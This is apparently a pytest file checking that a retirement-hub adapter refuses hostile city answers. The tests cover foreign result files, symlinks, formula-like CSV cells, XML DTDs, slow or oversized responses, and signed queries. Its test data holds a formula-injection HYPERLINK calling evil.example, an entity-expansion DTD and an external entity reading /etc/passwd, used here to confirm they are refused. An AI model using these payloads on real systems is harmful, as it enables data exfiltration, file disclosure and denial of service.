"""Hostile city answers through the real connectors and the engine (hub faked in memory).

A result file or poll answer naming another city's request is refused; a symlinked result file
is refused; formula-like cells are neutralised in what we write; one failing ticket does not
hold up the others; XML with a DTD is refused whatever its encoding; every call has a deadline
and a size cap.
"""
from __future__ import annotations

import csv
import io
import json
import os
import socket
import threading
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import requests
from flask import Flask, Response, request

import contracts
from adapters import cityhttp
from adapters.base import CityUnavailable, ForeignAnswer, Unit
from adapters.community.connector import CommunityConnector
from adapters.engine import Adapter
from adapters.health import convert as health_convert
from adapters.health.connector import HealthConnector
from adapters.hpf import signing
from adapters.issues import ConversionError
from adapters.medical import convert as medical_convert
from adapters.routing import RoutingTable
from adapters.state import State
from tests.support.servers import LiveServer
from tests.unit.test_adapter_engine import FakeHub

BOM = "\ufeff"


def _event(item: str, city: str, payload: dict[str, Any] | None = None) -> dict[str, Any]:
    d = contracts.item(item)
    data = (payload or _example(item)) | {"city_code": city}
    return {"specversion": "1.0", "id": str(uuid.uuid4()), "type": d["request_type"],
            "source": "retirement-hub", "subject": f"RT{city}-20261125-{uuid.uuid4().hex[:6]}",
            "data": data}


def _example(item: str) -> dict[str, Any]:
    return contracts.example({"only_child_certificate": "only-child-certificate-request",
                              "socialized_management": "socialized-management-request"}[item])


# ----- health: result files ----------------------------------------------------------------
HEALTH = Unit(name="health", item="only_child_certificate", handler="测试经办",
              connector=lambda o: HealthConnector(o))


@pytest.fixture
def health(tmp_path: Path) -> tuple[Adapter, FakeHub, dict[str, Path]]:
    dirs = {}
    routes: dict[str, Any] = {}
    for code in ("320400", "320200"):
        for sub in ("inbox", "outbox"):
            dirs[f"{code}/{sub}"] = tmp_path / code / sub
            dirs[f"{code}/{sub}"].mkdir(parents=True)
        routes[code] = {"name": code, "inbox": str(dirs[f"{code}/inbox"]),
                        "outbox": str(dirs[f"{code}/outbox"])}
    hub = FakeHub("health")
    connector = HealthConnector({"data_dir": str(tmp_path / "adapter")})
    a = Adapter(HEALTH, hub, RoutingTable.from_mapping(routes, "health"),
                State(tmp_path / "adapter"), connector, retry_schedule=(0.0,))
    return a, hub, dirs


def _result_file(outbox: Path, stem: str, rows: list[list[str]]) -> Path:
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n")
    w.writerow(health_convert.RESULT_HEADER)
    w.writerows(rows)
    path = outbox / f"{stem}{health_convert.RESULT_SUFFIX}"
    path.write_bytes((BOM + buf.getvalue()).encode("utf-8"))
    return path


def _ok_row(stem: str, event_id: str) -> list[str]:
    return [stem.rsplit("_", 1)[-1], event_id, "", "登记成功", "00",
            "已登记：持有独生子女父母光荣证", "2026-09-22 10:30:05"]


def _forwarded(a: Adapter, hub: FakeHub, city: str,
               payload: dict[str, Any] | None = None) -> tuple[dict[str, Any], str]:
    ev = _event("only_child_certificate", city, payload)
    hub.add(ev)
    a.tick()
    req = a.state.request(ev["id"])
    assert req is not None and req.state == "forwarded" and req.city_reference
    return ev, req.city_reference


def test_a_result_file_naming_another_citys_request_is_refused(
        health: tuple[Adapter, FakeHub, dict[str, Path]]) -> None:
    a, hub, dirs = health
    ev, stem = _forwarded(a, hub, "320400")
    # Wuxi's outbox claims the Changzhou request (its event id and its batch) is done
    _result_file(dirs["320200/outbox"], stem, [_ok_row(stem, ev["id"])])
    a.tick()
    assert a.state.progress_statuses(ev["id"]) == set()
    assert [e["code"] for e in a.state.errors()] == ["answer_not_ours"]
    assert a.state.errors()[0]["case_id"] is None and not a.state.outgoing("issue")
    # a file in the right outbox but of another batch than the request's is refused too
    _result_file(dirs["320400/outbox"], "DSZN_320400_20260922103005_BOTHER",
                 [_ok_row("DSZN_320400_20260922103005_BOTHER", ev["id"])])
    a.tick()
    assert a.state.progress_statuses(ev["id"]) == set()
    # Changzhou's own answer for its own batch is applied
    _result_file(dirs["320400/outbox"], stem, [_ok_row(stem, ev["id"])])
    a.tick()
    assert a.state.progress_statuses(ev["id"]) == {"completed"}
    assert [e["data"]["status"] for e in hub.of_type("item_progressed")] == ["completed"]


def test_a_symlinked_result_file_is_refused(
        health: tuple[Adapter, FakeHub, dict[str, Path]], tmp_path: Path) -> None:
    a, hub, dirs = health
    ev, stem = _forwarded(a, hub, "320400")
    elsewhere = _result_file(tmp_path, stem, [_ok_row(stem, ev["id"])])
    link = dirs["320400/outbox"] / elsewhere.name
    os.symlink(elsewhere, link)
    fifo = dirs["320400/outbox"] / f"FIFO{health_convert.RESULT_SUFFIX}"
    os.mkfifo(fifo)
    a.tick()
    assert a.state.progress_statuses(ev["id"]) == set()
    codes = sorted(e["code"] for e in a.state.errors())
    assert codes == ["batch_file_refused", "batch_file_refused"]
    assert all(e["case_id"] is None for e in a.state.errors())
    assert elsewhere.exists()                               # what the link pointed at: untouched
    assert not link.is_symlink() and not fifo.exists()      # moved aside, not read again
    a.tick()
    assert len(a.state.errors()) == 2


def test_one_broken_result_file_does_not_hide_the_others(
        health: tuple[Adapter, FakeHub, dict[str, Path]]) -> None:
    a, hub, dirs = health
    ev, stem = _forwarded(a, hub, "320400")
    (dirs["320400/outbox"] / f"A{health_convert.RESULT_SUFFIX}").write_bytes(b"\xff\xfe\x00bad")
    _result_file(dirs["320400/outbox"], stem, [_ok_row(stem, ev["id"]),
                                               ["x", "y"]])  # a broken row as well
    a.tick()
    assert a.state.progress_statuses(ev["id"]) == {"completed"}
    codes = sorted(e["code"] for e in a.state.errors())
    assert codes == ["batch_file_invalid", "batch_row_invalid"]


def test_formula_like_cells_are_neutralised_in_the_request_file(
        health: tuple[Adapter, FakeHub, dict[str, Path]]) -> None:
    a, hub, dirs = health
    names = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+2", "-3", "@SUM(A1)",
             "\t=1", "\r=2", "王示例"]
    for name in names:
        payload = _example("only_child_certificate")
        payload["person"] = {**payload["person"], "name": name}
        _forwarded(a, hub, "320400", payload)
    written = []
    for f in sorted(dirs["320400/inbox"].iterdir()):
        text = f.read_bytes().decode("utf-8-sig")
        written += [row[2] for row in list(csv.reader(io.StringIO(text, newline="")))[1:]]
    assert sorted(written) == sorted(["'" + n for n in names[:-1]] + ["王示例"])


# ----- community: polling -----------------------------------------------------------------
COMMUNITY = Unit(name="community", item="socialized_management", handler="测试经办",
                 connector=lambda o: CommunityConnector(o))


class FakeAgency:
    """An agency over real HTTP whose poll answers the test decides, ticket by ticket."""

    def __init__(self, code: str) -> None:
        self.code = code
        self.tickets: dict[str, str] = {}       # ticket -> bizSerial
        self.poll: dict[str, Any] = {}          # ticket -> "hang" | "garbage" | dict answer
        app = Flask(f"agency-{code}")

        @app.post("/sqfw/v1/enrolments")
        def enrol() -> Response:
            body = request.get_json()
            ticket = f"SQ{code}-{len(self.tickets) + 1:06d}"
            self.tickets[ticket] = body["bizSerial"]
            return Response(json.dumps({"ticket": ticket, "state": "RECEIVED"}), 202,
                            content_type="application/json")

        @app.get("/sqfw/v1/enrolments/<ticket>")
        def poll(ticket: str) -> Response:
            how = self.poll.get(ticket)
            if how == "hang":
                time.sleep(3)
            if how == "garbage":
                return Response("<html>oops</html>", 200, content_type="text/html")
            doc = how if isinstance(how, dict) else {
                "ticket": ticket, "bizSerial": self.tickets[ticket], "state": "ASSIGNED",
                "assigned": {"city": "常州市", "district": "天宁区", "street": "示例街道",
                             "community": "示例社区"}, "updatedAt": "2026-09-22 10:30:06"}
            return Response(json.dumps(doc, ensure_ascii=False), 200,
                            content_type="application/json")

        self.server = LiveServer(app)


@pytest.fixture
def community(tmp_path: Path) -> Iterator[tuple[Adapter, FakeHub, dict[str, FakeAgency]]]:
    agencies = {code: FakeAgency(code) for code in ("320400", "320200")}
    routes = {code: {"name": code, "url": ag.server.url, "deadline_s": 0.5}
              for code, ag in agencies.items()}
    hub = FakeHub("community")
    a = Adapter(COMMUNITY, hub, RoutingTable.from_mapping(routes, "community"),
                State(tmp_path / "adapter"), CommunityConnector({"poll_every_s": 0}),
                retry_schedule=(0.0,))
    yield a, hub, agencies
    for ag in agencies.values():
        ag.server.stop()


def _enrolled(a: Adapter, hub: FakeHub, city: str) -> tuple[dict[str, Any], str]:
    ev = _event("socialized_management", city)
    hub.add(ev)
    a.intake(ev)
    a.forward_due()
    req = a.state.request(ev["id"])
    assert req is not None and req.city_reference
    return ev, req.city_reference


def test_one_failing_ticket_does_not_hold_up_the_others(
        community: tuple[Adapter, FakeHub, dict[str, FakeAgency]]) -> None:
    a, hub, agencies = community
    hanging, t1 = _enrolled(a, hub, "320400")
    broken, t2 = _enrolled(a, hub, "320400")
    fine, _ = _enrolled(a, hub, "320400")
    agencies["320400"].poll.update({t1: "hang", t2: "garbage"})
    a.collect()   # one round: the hanging poll ends at its deadline, the others are answered
    assert a.state.progress_statuses(fine["id"]) == {"received", "completed"}
    assert a.state.progress_statuses(hanging["id"]) == {"received"}
    (problem,) = a.state.errors()
    assert problem["code"] == "city_answer_invalid" and problem["case_id"] == broken["subject"]


def test_a_poll_answer_naming_another_request_is_refused(
        community: tuple[Adapter, FakeHub, dict[str, FakeAgency]]) -> None:
    a, hub, agencies = community
    mine, ticket = _enrolled(a, hub, "320400")
    other, other_ticket = _enrolled(a, hub, "320400")
    wx, wx_ticket = _enrolled(a, hub, "320200")
    base = {"state": "ASSIGNED", "updatedAt": "2026-09-22 10:30:06",
            "assigned": {"city": "常州市", "district": "天宁区", "street": "示例街道",
                         "community": "示例社区"}}
    agencies["320400"].poll[ticket] = {**base, "ticket": other_ticket,
                                       "bizSerial": other["subject"]}      # another ticket
    agencies["320400"].poll[other_ticket] = {**base, "ticket": other_ticket,
                                             "bizSerial": wx["subject"]}  # another case
    agencies["320200"].poll[wx_ticket] = {**base, "ticket": ticket,
                                          "bizSerial": mine["subject"]}   # another city's
    a.collect()
    for ev in (mine, other, wx):
        assert a.state.progress_statuses(ev["id"]) == {"received"}
    errors = a.state.errors()
    assert [e["code"] for e in errors] == ["answer_not_ours"] * 3
    assert all(e["case_id"] is None for e in errors)


# ----- medical: XML --------------------------------------------------------------------------
def _envelope(msg_id: str, result: str = "1") -> str:
    return (f"<Envelope><Header><MsgId>{msg_id}</MsgId></Header><Body><ZtxResponse>"
            f"<RetCode>0</RetCode><BizNo>YB320400-000001</BizNo><Result>{result}</Result>"
            f"<HandleTime>2026-09-22 10:30:05</HandleTime></ZtxResponse></Body></Envelope>")


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-le", "utf-16-be"])
def test_xml_with_a_dtd_is_refused_whatever_the_encoding(encoding: str) -> None:
    decl = "UTF-16" if encoding.startswith("utf-16") else encoding.upper()
    doc = (f'<?xml version="1.0" encoding="{decl}"?>'
           '<!DOCTYPE Envelope [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
           + _envelope("m-1").replace("<BizNo>YB320400-000001", "<BizNo>&b;"))
    raw = doc.encode(encoding)
    if encoding == "utf-16-le":
        raw = b"\xff\xfe" + raw
    with pytest.raises(ConversionError, match="refused"):
        medical_convert.from_answer(200, raw, "m-1")


def test_an_external_entity_is_refused() -> None:
    doc = ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
           + _envelope("&x;"))
    with pytest.raises(ConversionError, match="refused"):
        medical_convert.from_answer(200, doc.encode(), "m-1")


def test_an_answer_to_another_message_is_foreign() -> None:
    assert medical_convert.from_answer(200, _envelope("m-1"), "m-1").city_reference
    with pytest.raises(ForeignAnswer):
        medical_convert.from_answer(200, _envelope("m-2"), "m-1")


# ----- every call: deadline and size cap --------------------------------------------------
class RawServer:
    """A loopback socket server answering each connection with `behaviour(conn)`."""

    def __init__(self, behaviour: Any) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self.sock.getsockname()[1]}/"
        self.behaviour = behaviour
        self.stop = threading.Event()
        threading.Thread(target=self._run, daemon=True).start()

    def _run(self) -> None:
        self.sock.settimeout(0.2)
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            threading.Thread(target=self._serve, args=(conn,), daemon=True).start()

    def _serve(self, conn: socket.socket) -> None:
        try:
            conn.recv(65536)
            self.behaviour(conn, self.stop)
        except OSError:
            pass
        finally:
            conn.close()

    def close(self) -> None:
        self.stop.set()
        self.sock.close()


def _trickle(conn: socket.socket, stop: threading.Event) -> None:
    conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\r\n")
    while not stop.wait(0.1):
        conn.sendall(b" ")


def _huge(conn: socket.socket, stop: threading.Event) -> None:
    conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\r\n")
    for _ in range(64):
        conn.sendall(b" " * 65536)


def test_a_trickling_city_is_cut_at_the_overall_deadline() -> None:
    srv = RawServer(_trickle)
    try:
        with pytest.raises(CityUnavailable, match="within"):
            cityhttp.call(requests.Session(), "GET", srv.url, deadline_s=0.5)
    finally:
        srv.close()


def test_an_answer_above_the_cap_is_refused() -> None:
    srv = RawServer(_huge)
    try:
        with pytest.raises(cityhttp.AnswerTooLarge):
            cityhttp.call(requests.Session(), "GET", srv.url, deadline_s=5, max_bytes=100_000)
    finally:
        srv.close()


# ----- hpf: signed queries, one at a time -------------------------------------------------------
HPF_SECRET = "edge-test-centre-secret-320400"


class FakeCentre:
    """A centre over real HTTP that checks the adapter's signature and answers queries as told."""

    def __init__(self) -> None:
        self.query: dict[str, Any] = {}          # slbh -> "hang" | "garbage" | None (completed)
        self.unsigned = 0
        self.cases: dict[str, tuple[str, str]] = {}   # slbh -> (event id, ywlsh)
        app = Flask("centre")

        def signed() -> bool:
            path = request.path + (f"?{request.query_string.decode()}"
                                   if request.query_string else "")
            ok = signing.verify(HPF_SECRET.encode(), request.method, path, request.headers,
                                request.get_data()) is None
            self.unsigned += not ok
            return ok

        @app.post("/gjj/api/txtq/sq")
        def apply() -> Response:
            if not signed():
                return Response('{"fhm": "98"}', 401, content_type="application/json")
            slbh = f"GJJ320400-{len(self.cases) + 1:06d}"
            self.cases[slbh] = (request.headers["X-Hub-Event-Id"], request.get_json()["ywlsh"])
            return Response(json.dumps({"fhm": "01", "slbh": slbh}), 202,
                            content_type="application/json")

        @app.get("/gjj/api/txtq/cx")
        def query() -> Response:
            if not signed():
                return Response('{"fhm": "98"}', 401, content_type="application/json")
            slbh = request.args["slbh"]
            how = self.query.get(slbh)
            if how == "hang":
                time.sleep(3)
            if how == "garbage":
                return Response("{not json", 200, content_type="application/json")
            sjid, ywlsh = self.cases[slbh]
            return Response(json.dumps({"slbh": slbh, "ywlsh": ywlsh, "sjid": sjid,
                                        "blzt": "02", "tqje": "100.00", "bjsj": ""}), 200,
                            content_type="application/json")

        self.server = LiveServer(app)


def test_hpf_queries_are_signed_and_one_failing_query_does_not_hold_up_the_others(
        tmp_path: Path) -> None:
    from adapters.hpf.connector import HpfConnector

    centre = FakeCentre()
    try:
        routes = {"320400": {"name": "常州", "url": centre.server.url, "secret": HPF_SECRET,
                             "deadline_s": 0.5}}
        unit = Unit(name="hpf", item="hpf_withdrawal", handler="测试经办",
                    connector=lambda o: HpfConnector(o))
        hub = FakeHub("hpf")
        a = Adapter(unit, hub, RoutingTable.from_mapping(routes, "hpf"),
                    State(tmp_path / "adapter"), HpfConnector({"query_after_s": 0}),
                    retry_schedule=(0.0,))
        evs = []
        for _ in range(3):
            ev = _event_hpf()
            hub.add(ev)
            a.intake(ev)
            evs.append(ev)
        a.forward_due()
        hanging, broken, fine = (a.state.request(e["id"]) for e in evs)
        assert hanging and broken and fine
        assert hanging.city_reference and broken.city_reference
        centre.query.update({hanging.city_reference: "hang", broken.city_reference: "garbage"})
        a.collect()
        assert a.state.progress_statuses(fine.event_id) == {"received", "completed"}
        assert a.state.progress_statuses(hanging.event_id) == {"received"}
        (problem,) = a.state.errors()
        assert problem["code"] == "city_answer_invalid" and problem["case_id"] == broken.case_id
        assert centre.unsigned == 0
    finally:
        centre.server.stop()


def _event_hpf() -> dict[str, Any]:
    d = contracts.item("hpf_withdrawal")
    return {"specversion": "1.0", "id": str(uuid.uuid4()), "type": d["request_type"],
            "source": "retirement-hub", "subject": f"RT320400-20261125-{uuid.uuid4().hex[:6]}",
            "data": contracts.example("hpf-withdrawal-request") | {"city_code": "320400"}}
